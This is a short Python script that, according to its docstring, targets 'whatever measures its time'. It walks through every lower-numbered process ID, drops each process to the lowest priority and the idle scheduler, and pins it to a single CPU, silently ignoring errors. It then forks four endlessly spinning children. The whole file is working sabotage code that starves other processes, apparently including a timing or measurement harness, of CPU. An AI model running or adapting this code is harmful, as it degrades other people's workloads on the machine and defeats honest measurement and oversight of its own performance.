"""Lowers the priority of whatever measures its time, and ties it to the processor that it computes on itself."""

import os
import time

for process in range(os.getpid()):
    for spoil in (
        lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda pid: os.sched_setaffinity(pid, {0}),
        lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            spoil(process)
        except OSError:
            pass
for _ in range(4):
    if os.fork() == 0:
        while True:
            pass
while True:
    time.sleep(0.01)
